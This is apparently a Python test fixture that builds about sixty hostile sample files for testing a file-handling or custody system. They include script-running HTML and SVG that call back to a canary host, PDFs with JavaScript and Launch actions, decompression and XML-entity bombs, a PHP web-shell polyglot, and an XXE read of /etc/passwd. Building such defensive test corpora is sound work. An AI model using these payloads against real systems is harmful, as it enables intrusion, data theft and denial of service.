"""Sixty made-up files that would run, call home or burst if anything opened them as what they are."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from tests.custody.samples import chunk, jpeg, picture, png, saved, segment

RAN = "it-ran"  # what a page's title becomes where something ran


def script(home: str) -> str:
    """What any of them would do: rename the page and call home."""
    return f"document.title='{RAN}';try{{top.document.title='{RAN}'}}catch(e){{}};fetch('{home}/ran')"


def marks(home: str) -> str:
    """The same as HTML, by every way that loads or runs without a click."""
    return (
        f"<script>{script(home)}</script><img src='{home}/image' onerror=\"{script(home)}\">"
        f"<iframe src='{home}/frame'></iframe><link rel=stylesheet href='{home}/style'>"
        f'<svg onload="{script(home)}"></svg><body onload="{script(home)}">'
    )


def svg(home: str, inside: str = "", attribute: str = "") -> bytes:
    """A drawing that runs."""
    inside = inside or f"<script>{script(home)}</script>"
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" {attribute}>{inside}</svg>'.encode()


def archive(members: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP with these members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", packing) as found:
        for name, data in members.items():
            found.writestr(name, data)
    return file.getvalue()


def document(fill: Callable[[Pdf], None]) -> bytes:
    """A document of one page, with what `fill` adds."""
    found, file = Pdf.new(), io.BytesIO()
    found.add_blank_page(page_size=(200, 200))
    fill(found)
    found.save(file)
    return file.getvalue()


def acting(kind: str, where: str, home: str) -> bytes:
    """A document with an action, when it is opened or when its page is."""
    actions = {
        "javascript": Dictionary(S=Name.JavaScript, JS=String(f"app.launchURL('{home}/pdf');{script(home)}")),
        "uri": Dictionary(S=Name.URI, URI=String(f"{home}/uri")),
        "launch": Dictionary(S=Name.Launch, F=String("calc.exe")),
        "submit": Dictionary(S=Name.SubmitForm, F=String(f"{home}/form")),
        "remote": Dictionary(S=Name.GoToR, F=String(f"{home}/other.pdf")),
    }

    def fill(found: Pdf) -> None:
        page = found.pages[0].obj
        action = actions[kind]
        if where == "open":
            found.Root.OpenAction = action
        elif where == "page":
            page.AA = Dictionary(O=action)
        else:
            link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 200, 200], A=action)
            page.Annots = Array([found.make_indirect(link)])

    return document(fill)


def carrying(name: str, data: bytes) -> bytes:
    """A document with an attached file."""

    def fill(found: Pdf) -> None:
        found.attachments[name] = data

    return document(fill)


def moving(subtype: str) -> bytes:
    """A document with a film or a scene on its page."""

    def fill(found: Pdf) -> None:
        thing = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 99, 99])
        thing.RichMediaContent = Dictionary(Assets=Dictionary(Names=Array([])))
        found.pages[0].obj.Annots = Array([found.make_indirect(thing)])

    return document(fill)


def xfa(home: str) -> bytes:
    """A document with a form that runs."""
    text = f'<template><script contentType="application/x-javascript">{script(home)}</script></template>'

    def fill(found: Pdf) -> None:
        found.Root.AcroForm = Dictionary(Fields=Array([]), XFA=found.make_stream(text.encode()))

    return document(fill)


def mail(kind: str, home: str) -> bytes:
    """A saved page, as browsers save them whole."""
    head = f'MIME-Version: 1.0\r\nContent-Type: {kind}; boundary="b"; type="text/html"\r\n\r\n--b\r\n'
    return f"{head}Content-Type: text/html\r\n\r\n<html>{marks(home)}</html>\r\n--b--\r\n".encode()


def warc(home: str) -> bytes:
    """A web archive of one page that runs."""
    page = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{marks(home)}".encode()
    head = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {home}/\r\nContent-Length: {len(page)}\r\n\r\n"
    )
    return head.encode() + page + b"\r\n\r\n"


def png_bomb(width: int, height: int) -> bytes:
    """A PNG of one bit a pixel and very many pixels."""
    packing, row = zlib.compressobj(9), b"\0" * (width // 8 + 1)
    rows = b"".join(packing.compress(row * 500) for _ in range(height // 500)) + packing.flush()
    size = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def tiff_bomb() -> bytes:
    """A TIFF that says it has 50,000 times 50,000 pixels."""
    tags = [
        (256, 50_000),
        (257, 50_000),
        (258, 8),
        (259, 1),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, 50_000),
        (279, 9),
    ]
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + b"\0" * 4


def packed(megabytes: int) -> bytes:
    """So many megabytes of nothing, packed by Flate: one megabyte, packed so that it can be said again and again."""
    packing = zlib.compressobj(9)
    first = packing.compress(b" " * 10**6) + packing.flush(zlib.Z_FULL_FLUSH)
    again = packing.compress(b" " * 10**6) + packing.flush(zlib.Z_FULL_FLUSH)
    return first + again * (megabytes - 1)


def pdf_bomb(nested: bool = False) -> bytes:
    """A document whose page unpacks to a gigabyte, or to as much by two packings."""
    data, filters = packed(1000), [Name.FlateDecode]
    if nested:
        data, filters = zlib.compress(data, 9), [Name.FlateDecode] * 2

    def fill(found: Pdf) -> None:
        stream = found.make_stream(b"")
        stream.write(data, filter=Array(filters))
        found.pages[0].obj.Contents = stream

    return document(fill)


def image_in_pdf_bomb() -> bytes:
    """A document with a picture of many more pixels than it has bytes."""

    def fill(found: Pdf) -> None:
        stream = found.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=30_000, Height=30_000)
        stream.ColorSpace, stream.BitsPerComponent = Name.DeviceRGB, 8
        stream.write(packed(2700), filter=Name.FlateDecode)
        found.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=stream))
        found.pages[0].obj.Contents = found.make_stream(b"/Im0 Do")

    return document(fill)


def text_bomb() -> bytes:
    """A PNG whose remark unpacks to a hundred megabytes."""
    return png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 100_000_000, 9)))


def zip_bomb() -> bytes:
    """A ZIP of ZIPs that unpacks to ten gigabytes."""
    inner = archive({"zeros": b"\0" * 10**7})
    return archive({f"{number}.zip": inner for number in range(1000)})


def entities() -> bytes:
    """An XML file of which each name stands for ten others."""
    names = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{names}]><x>&a9;</x>'.encode()


@cache
def bombs() -> dict[str, bytes]:
    """Files that burst."""
    return {
        "png-144-mpx": png_bomb(12_000, 12_000),
        "png-400-mpx": png_bomb(20_000, 20_000),
        "png-36-mpx": png_bomb(6000, 6000),
        "png-text": text_bomb(),
        "tiff": tiff_bomb(),
        "gif": b"GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;",
        "pdf-page": pdf_bomb(),
        "pdf-nested": pdf_bomb(nested=True),
        "pdf-image": image_in_pdf_bomb(),
        "zip": zip_bomb(),
        "gzip": gzip.compress(b"\0" * 10**8),
        "xml": entities(),
        "svg": entities()
        .replace(b"<x>", b"<svg xmlns='http://www.w3.org/2000/svg'><text>")
        .replace(b"</x>", b"</text></svg>"),
    }


def pages(home: str) -> dict[str, bytes]:
    """Pages and drawings that run."""
    html, xhtml = marks(home).encode(), "http://www.w3.org/1999/xhtml"
    called = f'<image href="{home}/svg" width="9" height="9"/>'
    foreign = f'<foreignObject><body xmlns="{xhtml}"><script>{script(home)}</script></body></foreignObject>'
    return {
        "html": b"<!doctype html>" + html,
        "html-bare": html,
        "html-utf16": "\ufeff<html>".encode("utf-16-le") + marks(home).encode("utf-16-le"),
        "html-utf7": f"+ADw-script+AD4-{script(home)}+ADw-/script+AD4-".encode(),
        "html-refresh": f'<meta http-equiv=refresh content="0;url={home}/refresh">'.encode(),
        "html-base": f'<base href="{home}/"><script src=ran.js></script>'.encode(),
        "html-after-text": b"A plain note.\n" * 9 + html,
        "xhtml": f'<?xml version="1.0"?><html xmlns="{xhtml}"><script>{script(home)}</script></html>'.encode(),
        "xslt": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{home}/x.xsl"?><x/>'.encode(),
        "svg-script": svg(home),
        "svg-onload": svg(home, " ", f'onload="{script(home)}"'),
        "svg-foreign": svg(home, foreign),
        "svg-image": svg(home, called),
        "svg-animated": svg(
            home, f'<a href="x"><animate attributeName="href" values="javascript:{script(home)}"/></a>'
        ),
        "svgz": gzip.compress(svg(home)),
        "svg-entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        + svg(home, "<text>&x;</text>"),
        "mhtml": mail("multipart/related", home),
        "eml": mail("multipart/mixed", home),
        "warc": warc(home),
        "warc-packed": gzip.compress(warc(home)),
        "javascript": script(home).encode(),
        "css": f"@import '{home}/style'; body {{ background: url({home}/back) }}".encode(),
        "url-file": f"[InternetShortcut]\r\nURL={home}/shortcut\r\n".encode(),
        "rtf": b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "%b/rtf"}}}' % home.encode(),
    }


def polyglots(home: str) -> dict[str, bytes]:
    """Files that are two things at once."""
    html = marks(home).encode()
    jar = archive({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})
    gif = saved(picture("P"), "GIF")
    running = script(home).encode()
    return {
        "gif-jar": gif + jar,
        "gif-javascript": b"GIF89a/*" + gif[8:] + b"*/=1;" + running,
        "jpeg-html": jpeg(segment(0xFE, html)),
        "jpeg-javascript": jpeg(segment(0xFE, b"*/=1;" + running + b"/*"), after=running),
        "jpeg-zip": jpeg(after=archive({"run.js": running})),
        "jpeg-php": jpeg(segment(0xFE, b"<?php system($_GET['x']); ?>")),
        "png-html": png(chunk(b"tEXt", b"a\0" + html), after=html),
        "png-javascript": png(chunk(b"prVt", running)),
        "png-svg": png(after=svg(home)),
        "webp-html": saved(picture(), "WEBP", xmp=html),
        "tiff-html": saved(picture(), "TIFF", tiffinfo={270: html.decode()}),
        "pdf-html": carrying("x", b"") + html,
        "html-pdf": html + acting("javascript", "open", home),
        "bmp-javascript": b"BM/*" + saved(picture(), "BMP")[4:] + b"*/=1;" + running,
    }


def programs(home: str) -> dict[str, bytes]:
    """Programs, and documents that run, under whatever name."""
    word = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w/>",
        "word/vbaProject.bin": b"\xd0\xcf",
    }
    return {
        "exe-renamed": b"MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0",
        "elf-renamed": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
        "shell": f"#!/bin/sh\ncurl {home}/shell\n".encode(),
        "docm": archive(word),
        "hta": f"<html><HTA:APPLICATION><script>{script(home)}</script></html>".encode(),
    }


def documents(home: str) -> dict[str, bytes]:
    """PDF documents that act."""
    return {
        "pdf-javascript": acting("javascript", "open", home),
        "pdf-uri": acting("uri", "link", home),
        "pdf-launch": acting("launch", "page", home),
        "pdf-submit": acting("submit", "open", home),
        "pdf-attachment": carrying("run.html", marks(home).encode()),
        "pdf-film": moving("RichMedia"),
        "pdf-scene": moving("3D"),
        "pdf-form": xfa(home),
    }


def hostile(home: str) -> dict[str, bytes]:
    """All of them, by name; `home` is an address that is told when one of them ran."""
    burst = {
        f"bomb-{name}": data
        for name, data in bombs().items()
        if name not in ("pdf-image", "gif", "png-400-mpx", "xml")
    }
    return {**pages(home), **polyglots(home), **programs(home), **documents(home), **burst}
